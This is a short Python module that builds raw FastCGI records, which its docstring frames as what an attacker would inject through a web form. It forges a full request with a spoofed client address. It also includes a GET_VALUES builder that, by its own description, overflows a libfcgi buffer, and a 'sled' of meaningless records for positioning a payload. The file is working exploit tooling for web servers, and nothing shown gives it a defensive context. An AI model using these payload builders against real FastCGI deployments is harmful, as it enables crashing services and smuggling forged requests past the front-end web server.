"""FastCGI records (specification 1.0, section 3.3), as an attacker would write them into the body of a form."""

import struct

BEGIN_REQUEST, ABORT_REQUEST, END_REQUEST, PARAMS, STDIN, GET_VALUES = 1, 2, 3, 4, 5, 9
UNKNOWN_TYPE = 11
RESPONDER, KEEP_CONNECTION = 1, 1


def record(kind: int, content: bytes, request: int = 1) -> bytes:
    return struct.pack("!BBHHBx", 1, kind, request, len(content), 0) + content


def pair(name: str, value: str) -> bytes:
    """A name and its value, each with its length before (section 3.4)."""
    encoded = [name.encode(), value.encode()]
    return b"".join(struct.pack("!I", len(text) | 1 << 31) for text in encoded) + b"".join(encoded)


def whole_request(number: str, request: int = 1) -> bytes:
    """A request for a message to this number, as a web server would make it."""
    body = f"number={number}".encode()
    parameters = {
        "REQUEST_METHOD": "POST",
        "SCRIPT_NAME": "/register",
        "CONTENT_TYPE": "application/x-www-form-urlencoded",
        "CONTENT_LENGTH": str(len(body)),
        "REMOTE_ADDR": "203.0.113.66",
    }
    return b"".join(
        [
            record(BEGIN_REQUEST, struct.pack("!HB5x", RESPONDER, KEEP_CONNECTION), request),
            record(PARAMS, b"".join(pair(*each) for each in parameters.items()), request),
            record(PARAMS, b"", request),
            record(STDIN, body, request),
            record(STDIN, b"", request),
        ]
    )


def abort(request: int = 1) -> bytes:
    return record(ABORT_REQUEST, b"", request)


def get_values(repetitions: int) -> bytes:
    """A question for the same value many times over, which overflows a buffer of libfcgi's."""
    return record(GET_VALUES, pair("FCGI_MAX_CONNS", "") * repetitions, 0)


def sled(records: int) -> bytes:
    """Records that mean nothing, so that a reader who starts at any of them slides to what comes after."""
    return record(UNKNOWN_TYPE, b"", 0) * records
